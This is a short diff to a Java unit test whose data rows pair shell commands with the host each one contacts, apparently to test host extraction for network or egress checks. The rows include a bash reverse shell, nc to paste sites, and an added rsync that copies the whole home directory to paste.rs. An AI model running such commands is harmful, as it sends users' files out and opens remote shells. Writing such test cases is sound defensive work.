@@ -11,6 +11,9 @@ final class PlacesTest {
     @CsvSource({
         "curl https://0x0.st/u, 0x0.st",
         "nc -w 3 paste.rs 443, paste.rs",
+        "nc -n relay.sh 443, relay.sh",
+        "rsync -az ~/ paste.rs::drop, paste.rs",
+        "scp -r src files.example.dev:/d, files.example.dev",
         "scp a u@files.example.com:/d, files.example.com",
         "bash -i >& /dev/tcp/198.51.100.4/443, 198.51.100.4",
         "ping -c 1 build.example.org, build.example.org",
